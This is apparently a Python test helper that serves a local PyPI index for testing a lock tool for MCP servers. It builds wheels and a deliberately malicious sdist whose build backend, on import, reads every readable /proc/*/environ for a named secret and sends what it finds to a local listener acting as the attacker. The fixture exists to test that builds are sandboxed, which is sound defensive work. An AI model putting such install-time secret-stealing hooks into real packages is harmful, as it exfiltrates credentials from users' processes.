"""A small PyPI simple index on 127.0.0.1 (PEP 503 HTML and PEP 691 JSON), serving wheels and sdists built at
test time in a temporary folder.

    index = Index(tmp_path)
    index.wheel("demo-server", "1.0.0", scripts={"demo-server": SERVER_MODULE})  # a stdio MCP server
    index.sdist("evil-sdist", "1.0.0", backend=marker_backend(marker, port, "RUNNER_SECRET"))
    with serve(index) as url:   # url: http://127.0.0.1:PORT/simple/
        ...

`/simple/` lists the projects, `/simple/<normalised>/` one project's files, each link with its `#sha256=`
fragment; a request whose Accept header asks for `application/vnd.pypi.simple.v1+json` gets PEP 691 JSON, with
PEP 700's `upload-time` for each file given one (`index.upload_times[filename]`, as `uv --exclude-newer` reads).
Files are served from `/files/<filename>`; `served` records every path answered.

As PyPI publishes them beside the simple API: the JSON API (`/pypi/<project>/<version>/json`: `info` with the
version's `license_expression` / `license` / `classifiers`, `urls` with each file's `packagetype`, `digests` and
`upload_time_iso_8601`), and PEP 740 provenance: a file added with `provenance` has, in the JSON simple API,
`"provenance": "/integrity/<project>/<version>/<filename>/provenance"` (PyPI's Integrity API), where that
provenance object is served verbatim.

    index.add("pypi-attestations", "0.0.19", "pypi_attestations-0.0.19.tar.gz", data, provenance=answer)
"""

from __future__ import annotations

import base64
import contextlib
import csv
import hashlib
import html
import io
import json
import re
import tarfile
import threading
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import loopback_http

JSON_TYPE = "application/vnd.pypi.simple.v1+json"

# A stdio MCP server without dependencies (newline-delimited JSON-RPC, one tool), as a module `main()`.
SERVER_MODULE = '''import json, sys


def main():
    tool = {"name": "echo", "description": "Echo the text back.",
            "inputSchema": {"type": "object", "properties": {"text": {"type": "string"}}, "required": ["text"]}}
    for line in sys.stdin:
        request = json.loads(line)
        if "id" not in request:
            continue
        if request["method"] == "initialize":
            result = {"protocolVersion": request["params"]["protocolVersion"], "capabilities": {"tools": {}},
                      "serverInfo": {"name": "demo-py", "version": "1.0.0"}}
            reply = {"jsonrpc": "2.0", "id": request["id"], "result": result}
        elif request["method"] == "tools/list":
            reply = {"jsonrpc": "2.0", "id": request["id"], "result": {"tools": [tool]}}
        else:
            reply = {"jsonrpc": "2.0", "id": request["id"], "error": {"code": -32601, "message": "Method not found"}}
        sys.stdout.write(json.dumps(reply) + "\\n")
        sys.stdout.flush()
'''


def marker_backend(marker: Path, port: int, secret_name: str) -> str:
    """An in-tree PEP 517 build backend that, when imported (by any build frontend), writes `marker`, looks for
    `secret_name` in every process environment it can read (/proc/*/environ: the caller's, mcp-lock's) and sends
    what it found to 127.0.0.1:`port`; then fails the build."""
    return f'''import os, socket

def _steal():
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{{pid}}/environ", "rb") as handle:
                for item in handle.read().split(b"\\0"):
                    if item.startswith({secret_name.encode()!r} + b"="):
                        found.append(item.split(b"=", 1)[1].decode())
        except OSError:
            continue
    try:
        with open({str(marker)!r}, "w") as handle:
            handle.write("built outside the sandbox: " + ",".join(found))
    except OSError:
        pass
    try:
        with socket.create_connection(("127.0.0.1", {port}), timeout=2) as sock:
            sock.sendall(("secret:" + ",".join(found) + "\\n").encode())
    except OSError:
        pass

_steal()


def get_requires_for_build_wheel(config_settings=None):
    return []


def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):
    raise RuntimeError("this backend never builds")


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    raise RuntimeError("this backend never builds")


def build_sdist(sdist_directory, config_settings=None):
    raise RuntimeError("this backend never builds")
'''


def normalised(name: str) -> str:
    return re.sub(r"[-_.]+", "-", name).lower()


@dataclass
class Index:
    folder: Path
    files: dict[str, list[str]] = field(default_factory=dict)  # normalised project -> file names
    served: list[str] = field(default_factory=list)
    url: str = ""
    versions: dict[str, str] = field(default_factory=dict)  # file name -> its version
    provenance: dict[str, bytes] = field(default_factory=dict)  # file name -> its PEP 740 provenance object
    info: dict[tuple[str, str], dict[str, Any]] = field(default_factory=dict)  # (project, version) -> JSON `info`
    uploaded: str = "2026-01-05T10:00:00.000000Z"  # every file's upload time, as the JSON API states it
    json_api_on: bool = True  # off: `/pypi/…` answers 404, as an index without a JSON API does
    # file name -> its upload time (ISO 8601), stated on both APIs; a file without one: none on the simple API
    upload_times: dict[str, str] = field(default_factory=dict)

    def _add(self, name: str, filename: str, data: bytes, version: str = "") -> str:
        self.folder.mkdir(parents=True, exist_ok=True)
        (self.folder / filename).write_bytes(data)
        self.files.setdefault(normalised(name), []).append(filename)
        self.versions[filename] = version
        return hashlib.sha256(data).hexdigest()

    def add(self, name: str, version: str, filename: str, data: bytes, provenance: bytes | None = None,
            **info: Any) -> str:
        """A published file as it is (a real sdist or wheel), with its PEP 740 provenance object if given, and
        `info` for the JSON API (e.g. `license_expression="MIT"`); returns its sha256."""
        self.info.setdefault((normalised(name), version), {}).update(info)
        if provenance is not None:
            self.provenance[filename] = provenance
        return self._add(name, filename, data, version)

    def wheel(self, name: str, version: str, scripts: dict[str, str] | None = None, license: str | None = None,
              classifiers: tuple[str, ...] = (), requires: tuple[str, ...] = ()) -> str:
        """A pure-Python wheel of `name`; each `scripts` entry a console script running that module's main().
        `license` is its METADATA's License-Expression (and the JSON API's `license_expression`), `classifiers`
        its Classifier lines, `requires` its Requires-Dist lines. Returns its sha256."""
        module = name.replace("-", "_")
        dist_info = f"{module}-{version}.dist-info"
        files: dict[str, bytes] = {f"{module}/__init__.py": b""}
        points = []
        for index, (script, source) in enumerate((scripts or {}).items()):
            files[f"{module}/script{index}.py"] = source.encode()
            points.append(f"{script} = {module}.script{index}:main")
        metadata = f"Metadata-Version: 2.4\nName: {name}\nVersion: {version}\n"
        metadata += f"License-Expression: {license}\n" if license else ""
        metadata += "".join(f"Classifier: {c}\n" for c in classifiers)
        metadata += "".join(f"Requires-Dist: {r}\n" for r in requires)
        files[f"{dist_info}/METADATA"] = metadata.encode()
        self.info.setdefault((normalised(name), version), {}).update(
            {"license_expression": license, "classifiers": list(classifiers)})
        files[f"{dist_info}/WHEEL"] = (
            b"Wheel-Version: 1.0\nGenerator: loopback-pypi\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        )
        if points:
            files[f"{dist_info}/entry_points.txt"] = ("[console_scripts]\n" + "\n".join(points) + "\n").encode()
        rows = io.StringIO()
        writer = csv.writer(rows, lineterminator="\n")
        for path, data in files.items():
            digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
            writer.writerow([path, f"sha256={digest}", len(data)])
        writer.writerow([f"{dist_info}/RECORD", "", ""])
        files[f"{dist_info}/RECORD"] = rows.getvalue().encode()
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            for path, data in files.items():
                archive.writestr(zipfile.ZipInfo(path, (2020, 1, 1, 0, 0, 0)), data)
        return self._add(name, f"{module}-{version}-py3-none-any.whl", buffer.getvalue(), version)

    def sdist(self, name: str, version: str, backend: str) -> str:
        """An sdist of `name` built by the in-tree backend module `backend` (its source); returns its sha256.
        Its metadata is dynamic, so a frontend must run the backend to learn it."""
        module = name.replace("-", "_")
        root = f"{module}-{version}"
        pyproject = (
            f'[project]\nname = "{name}"\ndynamic = ["version", "dependencies"]\n\n'
            '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
        )
        files = {
            f"{root}/pyproject.toml": pyproject.encode(),
            f"{root}/backend.py": backend.encode(),
            f"{root}/PKG-INFO": (
                f"Metadata-Version: 2.2\nName: {name}\nVersion: {version}\nDynamic: Requires-Dist\n".encode()
            ),
        }
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
            for path, data in files.items():
                info = tarfile.TarInfo(path)
                info.size, info.mode, info.mtime = len(data), 0o644, 0
                archive.addfile(info, io.BytesIO(data))
        return self._add(name, f"{module}-{version}.tar.gz", buffer.getvalue(), version)

    def project_html(self, project: str) -> bytes:
        links = "".join(
            f'<a href="/files/{html.escape(f)}#sha256={self._sha(f)}">{html.escape(f)}</a><br>\n'
            for f in self.files[project]
        )
        return f"<!DOCTYPE html>\n<html><body>\n{links}</body></html>\n".encode()

    def project_json(self, project: str) -> bytes:
        entries = []
        for f in self.files[project]:
            entry: dict[str, Any] = {"filename": f, "url": f"/files/{f}", "hashes": {"sha256": self._sha(f)}}
            if f in self.provenance:
                entry["provenance"] = f"/integrity/{project}/{self.versions[f]}/{f}/provenance"
            if f in self.upload_times:
                entry["upload-time"] = self.upload_times[f]
            entries.append(entry)
        return json.dumps({"meta": {"api-version": "1.1"}, "name": project, "files": entries}).encode()

    def json_api(self, project: str, version: str) -> bytes | None:
        """The JSON API's answer about one version (None: the index lists no file of it)."""
        files = [f for f in self.files.get(project, []) if self.versions.get(f) == version]
        if not files or not self.json_api_on:
            return None
        urls = [{"filename": f, "url": f"/files/{f}", "digests": {"sha256": self._sha(f)},
                 "packagetype": "bdist_wheel" if f.endswith(".whl") else "sdist",
                 "upload_time_iso_8601": self.upload_times.get(f, self.uploaded)} for f in files]
        info = {"name": project, "version": version, "license": None, "license_expression": None, "classifiers": [],
                **self.info.get((project, version), {})}
        return json.dumps({"info": info, "urls": urls}).encode()

    def root_page(self, as_json: bool) -> bytes:
        if as_json:
            projects = [{"name": p} for p in sorted(self.files)]
            return json.dumps({"meta": {"api-version": "1.0"}, "projects": projects}).encode()
        links = "".join(f'<a href="/simple/{p}/">{p}</a>\n' for p in sorted(self.files))
        return f"<!DOCTYPE html>\n<html><body>\n{links}</body></html>\n".encode()

    def _sha(self, filename: str) -> str:
        return hashlib.sha256((self.folder / filename).read_bytes()).hexdigest()


@contextlib.contextmanager
def serve(index: Index) -> Iterator[str]:
    """Serve `index` on 127.0.0.1 until the block ends; yields the simple index's URL."""

    class Handler(loopback_http.Handler):
        def do_HEAD(self) -> None:
            self.do_GET(head=True)

        def do_GET(self, head: bool = False) -> None:
            path = unquote(self.path.split("?", 1)[0].split("#", 1)[0])
            index.served.append(path)
            as_json = JSON_TYPE in (self.headers.get("Accept") or "")
            kind = JSON_TYPE if as_json else "text/html"
            parts = [p for p in path.split("/") if p]
            body: bytes | None = None
            if parts == ["simple"]:
                body = index.root_page(as_json)
            elif len(parts) == 2 and parts[0] == "simple" and normalised(parts[1]) in index.files:
                project = normalised(parts[1])
                body = index.project_json(project) if as_json else index.project_html(project)
            elif len(parts) == 2 and parts[0] == "files" and (index.folder / parts[1]).is_file():
                body, kind = (index.folder / parts[1]).read_bytes(), "application/octet-stream"
            elif len(parts) == 4 and parts[0] == "pypi" and parts[3] == "json":
                body, kind = index.json_api(normalised(parts[1]), parts[2]), "application/json"
            elif len(parts) == 5 and parts[0] == "integrity" and parts[4] == "provenance":
                body, kind = index.provenance.get(parts[3]), "application/json"
            if body is None:
                self.send_error(404)
                return
            self.answer(200, kind, body, head=head)

    server, address = loopback_http.start(Handler)
    index.url = f"{address}/simple/"
    try:
        yield index.url
    finally:
        server.shutdown()
        server.server_close()


@contextlib.contextmanager
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A TCP listener on 127.0.0.1 standing in for the attacker: yields its port and what it received."""
    import socket

    received: list[bytes] = []
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    sock.listen(8)
    sock.settimeout(0.2)
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, _ = sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                with contextlib.suppress(OSError):
                    received.append(conn.recv(65536))

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    try:
        yield sock.getsockname()[1], received
    finally:
        stop.set()
        thread.join(2)
        sock.close()
